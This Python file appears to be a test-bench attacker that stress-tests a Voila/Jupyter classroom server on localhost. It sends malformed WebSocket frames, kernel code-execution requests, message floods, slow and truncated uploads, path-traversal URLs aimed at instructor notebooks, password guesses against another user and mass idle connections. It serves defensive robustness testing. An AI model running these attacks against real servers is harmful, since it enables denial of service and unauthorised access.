"""One hostile learner, for the bench and no other use: everything that was ever found to stop a class, over and over, for so many seconds.

    python tests/bench/attacker.py PORT CLASS_WORD VICTIM SECONDS [ONLY]

It attacks 127.0.0.1 and no other address, is bounded in time and count, and prints one JSON object: how often each attack was made. A
server of the tests' own is named by its port; VICTIM is the name of a desk whose word is guessed; ONLY is the name of one attack.
"""

import http.client
import itertools
import json
import os
import re
import socket
import struct
import sys
import threading
import time
import uuid
from collections import Counter
from contextlib import suppress
from urllib.parse import urlencode

HOST, PAGES, WAIT_S = "127.0.0.1", ("00_start_here.ipynb", "02_leakage_and_fan_duty.ipynb"), 10
PROTOCOL = "v1.kernel.websocket.jupyter.org"


class Eve:
    """A desk, its cookies, its page."""

    def __init__(self, port, word, victim, until):
        self.port, self.word, self.victim, self.until, self.jar, self.kernel = port, word, victim, until, {}, None
        self.done = Counter()

    def sit(self, name="Eve", word="evil word", **fields):
        """Take a desk, or guess at one; the status that comes back."""
        _, page = self.ask("GET", "/login")
        found = re.search(rb'action="(/login\?[^"]+)"', page)
        form = {"name": name, "word": word, "class_word": self.word} | fields
        return found and self.ask("POST", found[1].decode(), urlencode(form))[0]

    def ask(self, method, path, body=None, kind="application/x-www-form-urlencoded"):
        """(status, body) of an answer; (0, nothing) where there is none."""
        line = http.client.HTTPConnection(HOST, self.port, timeout=WAIT_S)
        try:
            line.request(method, path, body, {"Cookie": self.cookies, "Content-Type": kind})
            answer = line.getresponse()
            for name, value in answer.getheaders():
                if name.lower() == "set-cookie":
                    key, _, rest = value.partition(";")[0].partition("=")
                    self.jar[key] = rest
            return answer.status, answer.read()
        except (OSError, http.client.HTTPException):
            return 0, b""
        finally:
            line.close()

    @property
    def cookies(self):
        return "; ".join(f"{name}={value}" for name, value in self.jar.items())

    def raw(self, data):
        """Send these bytes, and read what comes at once."""
        with suppress(OSError), socket.create_connection((HOST, self.port), WAIT_S) as line:
            line.sendall(data)
            line.recv(4000)

    def open(self, page=PAGES[0]):
        """Open a page, and remember its kernel."""
        _, text = self.ask("GET", f"/voila/render/{page}")
        found = re.search(rb'"kernelId": ?"([^"]+)"', text)
        if found:
            self.kernel = found[1].decode()

    def line(self, kernel=None):
        """A connection to a kernel, or None."""
        if not (self.kernel or kernel):
            self.open()
        line = socket.create_connection((HOST, self.port), WAIT_S)
        line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        path = f"/api/kernels/{kernel or self.kernel}/channels?session_id={uuid.uuid4().hex}"
        head = f"GET {path} HTTP/1.1\r\nHost: {HOST}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
        head += f"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Protocol: {PROTOCOL}\r\nCookie: {self.cookies}\r\n\r\n"
        line.sendall(head.encode())
        if b" 101 " not in line.recv(2000):
            line.close()
            self.kernel = None
            return None
        return line

    # The attacks: each is one go of at most some seconds

    def counts_without_end(self):
        """A message that says it has 2^64 parts."""
        for data in (b"\xff" * 8, b"\xff" * 60_000, struct.pack("<Q", 2**40) + b"\0" * 4000):
            self._say(frame(data))

    def code(self):
        """A question that would run code, and others that no page asks."""
        for kind in ("execute_request", "shutdown_request", "complete_request", "history_request", "create_subshell_request"):
            self._say(message(kind, {"code": "while True: pass", "silent": False}))

    def flood(self):
        """Messages as fast as they go."""
        with suppress(OSError):
            if line := self.line():
                with line:
                    line.sendall(message("comm_open", {"comm_id": "c", "target_name": "jupyter.widget.control", "data": {}}, "1.0.0"))
                    for _ in range(3_000):
                        line.sendall(message("comm_msg", {"comm_id": "c", "data": {"method": "request_states"}}))

    def unread(self):
        """Asks for all states and reads nothing; then pings and pieces of nothing."""
        self.flood()
        self._say(b"\x89\x80\0\0\0\0" * 20_000)
        self._say(b"\x02\x80\0\0\0\0" + b"\x00\x80\0\0\0\0" * 20_000)

    def large_states(self):
        """Sets a widget to all that fits into a message, again and again."""
        state = {"comm_id": "c", "data": {"method": "update", "state": {"value": "x" * 250_000}, "buffer_paths": []}}
        self._say(*(message("comm_msg", state) for _ in range(40)))

    def accents(self):
        """A name and a word of accents in the wrong order."""
        for field in ("name", "word"):
            self.sit(**{"name": "Eve", field: "a" + "\u0301\u0323" * 5_000})

    def bodies(self):
        """Bodies of nobody that stop before their end."""
        lines = []
        for _ in range(20):
            with suppress(OSError):
                line = socket.create_connection((HOST, self.port), WAIT_S)
                lines.append(line)
                line.sendall(f"POST /login HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 60000\r\n\r\n".encode() + b"a" * 59_000)
        time.sleep(1)
        for line in lines:
            line.close()

    def records(self):
        """Files that are large, deep or full of entries, each written out again."""
        entry = {"kind": "answered", "lesson": "a", "item": "b", "seed": 1, "system": "Pa", "text": "", "good": False, "slip": "", "at": ""}
        entries = [{"uid": uuid.uuid4().hex} | entry for _ in range(19_000)]
        whole = json.dumps({"format": "pressure-loop learner record", "version": 1, "events": entries})
        for body in (whole, "[" * 5_000_000, "[" + "[]," * 3_000_000 + "1]", "9" * 9_000_000, whole + " " * 30_000_000):
            self._upload(f"{uuid.uuid4().hex}.json", body.encode())
            if time.monotonic() > self.until:
                return
        self._post("/mine/", rb'action="(/mine/record\?[^"]+)"')

    def addresses(self):
        """Addresses that are long or lead a way around."""
        for part in ("\\" * 60_000, '"' * 60_000, "%ff" * 20_000, "a" * 15_000):
            self.raw(f"GET /voila/render/{PAGES[0]}?{part} HTTP/1.1\r\nHost: {HOST}\r\nCookie: {self.cookies}\r\n\r\n".encode())
        for part in ("%69nstructor/", "./instructor/", "x/../instructor/", "instructor%2f"):
            self.raw(f"GET /voila/render/{part}23_class_sets.ipynb HTTP/1.1\r\nHost: {HOST}\r\nCookie: {self.cookies}\r\n\r\n".encode())

    def pages(self):
        """Pages opened without end."""
        for page in itertools.islice(itertools.cycle(PAGES), 6):
            self.open(page)

    def questions(self):
        """The list of files, as fast as it comes, in many connections at once."""
        threads = [threading.Thread(target=lambda: [self.ask("GET", "/mine/") for _ in range(25)]) for _ in range(12)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def downloads(self):
        """The largest file that everybody gets, in many connections at once."""
        threads = [threading.Thread(target=lambda: [self.ask("GET", "/voila/static/voila.js") for _ in range(20)]) for _ in range(12)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def halves(self):
        """Files that stop before their end."""
        found = re.search(rb'action="(/mine/\?[^"]+)"', self.ask("GET", "/mine/")[1])
        lines = []
        for _ in range(20 if found else 0):
            with suppress(OSError):
                line = socket.create_connection((HOST, self.port), WAIT_S)
                lines.append(line)
                head = f"POST {found[1].decode()} HTTP/1.1\r\nHost: {HOST}\r\nCookie: {self.cookies}\r\nContent-Length: 9999999\r\n\r\n"
                line.sendall(head.encode() + b"a" * 9_000_000)
        time.sleep(1)
        for line in lines:
            line.close()

    def guesses(self):
        """Words of another desk, and of the class."""
        for number in range(4):
            self.sit(self.victim, f"guess {number}")
            self.sit("Mallory", class_word=f"guess {number}")

    def silence(self):
        """Connections that say nothing."""
        lines = []
        with suppress(OSError):
            for _ in range(600):
                lines.append(socket.create_connection((HOST, self.port), WAIT_S))
        time.sleep(1)
        for line in lines:
            line.close()

    def closes(self):
        """Other numbers of pages, to close them."""
        for number in (f"{uuid.uuid4()}", "%61bc", "x/y"):
            self.ask("POST", f"/voila/api/shutdown/{number}?_xsrf={self.jar.get('_xsrf', '')}", "x=1")

    def _say(self, *messages):
        with suppress(OSError):
            if line := self.line():
                with line:
                    for one in messages:
                        line.sendall(one)
                    line.settimeout(1)
                    line.recv(1000)

    def _upload(self, name, body):
        head = f'--part\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n\r\n'.encode()
        self._post("/mine/", rb'action="(/mine/\?[^"]+)"', head + body + b"\r\n--part--\r\n", "multipart/form-data; boundary=part")

    def _post(self, page, address, body="x=1", kind="application/x-www-form-urlencoded"):
        found = re.search(address, self.ask("GET", page)[1])
        if found:
            self.ask("POST", found[1].decode(), body, kind)


ATTACKS = (
    "counts_without_end", "code", "flood", "unread", "large_states", "accents", "bodies", "records", "addresses", "pages", "questions",
    "guesses", "silence", "closes", "downloads", "halves",
)  # fmt: skip
AT_ONCE = 3  # of them beside each other


def frame(payload):
    """A frame of a web socket, as a client sends it."""
    size = len(payload)
    head = bytes([0x80 | size]) if size < 126 else b"\xfe" + size.to_bytes(2, "big") if size < 65536 else b"\xff" + size.to_bytes(8, "big")
    return b"\x82" + head + b"\0\0\0\0" + payload


def message(kind, content, version=""):
    """A message as a page sends it."""
    head = {"msg_id": uuid.uuid4().hex, "msg_type": kind, "username": "", "session": "x", "date": "", "version": "5.3"}
    parts = [b"shell", *(json.dumps(part).encode() for part in (head, {}, {"version": version} if version else {}, content))]
    places = [8 * (len(parts) + 2)]
    for part in parts:
        places.append(places[-1] + len(part))
    return frame(struct.pack(f"<{len(places) + 1}Q", len(places), *places) + b"".join(parts))


def attack(eve, names):
    """Each attack after the other until time is up."""
    while time.monotonic() < eve.until:
        for name in names:
            if time.monotonic() < eve.until:
                with suppress(OSError):
                    getattr(eve, name)()
                eve.done[name] += 1


if __name__ == "__main__":
    os.nice(10)  # its computer would be another one than the class's
    port, word, victim, seconds = int(sys.argv[1]), sys.argv[2], sys.argv[3], float(sys.argv[4])
    eve = Eve(port, word, victim, time.monotonic() + seconds)
    eve.sit()
    chosen = sys.argv[5:] or ATTACKS
    threads = [threading.Thread(target=attack, args=(eve, chosen[place::AT_ONCE])) for place in range(AT_ONCE) if chosen[place::AT_ONCE]]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps({"attacks": eve.done, "cpu_s": round(time.process_time(), 1)}))
